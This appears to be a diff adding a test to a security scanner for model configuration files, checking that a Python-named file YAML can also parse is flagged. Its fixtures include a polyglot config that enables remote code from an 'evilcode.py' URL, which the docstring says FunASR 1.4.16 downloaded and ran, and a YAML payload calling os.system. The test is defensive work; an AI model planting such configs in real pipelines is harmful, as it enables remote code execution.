@@ -523,3 +523,22 @@ def test_a_python_named_file_python_cannot_parse_is_still_a_config(tmp_path: Pat
     report = scan_bytes(tmp_path, b"model: !new:os.system\n  - id\n", "hyperparams.py")
     assert "config-targets" in report.files[0].formats
     assert any(f.severity == Severity.CRITICAL and f.rule_id.startswith("WS-CFG") for f in report.findings)
+
+
+FUNASR_POLYGLOT = (b'model: "Paraformer"\ntrust_remote_code: True\nremote_code: "http://127.0.0.1:8765/evilcode.py"\n'
+                   b'_target_: "funasr.auto.auto_model.AutoModel"\n')  # fmt: skip
+
+
+def test_a_python_file_yaml_also_reads_is_still_a_config(tmp_path: Path) -> None:
+    """Review 22: FunASR reads the file its configuration.json names with OmegaConf.load, whatever it is called, and
+    `key: "value"` lines are Python's annotated assignments too: its `config.py` turned on remote code, which FunASR
+    1.4.16 downloaded and ran. Only a .py that YAML cannot read is left to the code scanner."""
+    import ast
+
+    import yaml
+
+    ast.parse(FUNASR_POLYGLOT)
+    assert yaml.safe_load(FUNASR_POLYGLOT)["trust_remote_code"] is True
+    report = scan_bytes(tmp_path, FUNASR_POLYGLOT, "config.py")
+    assert "config-targets" in report.files[0].formats
+    assert "WS-CFG-018" in rule_ids(report)
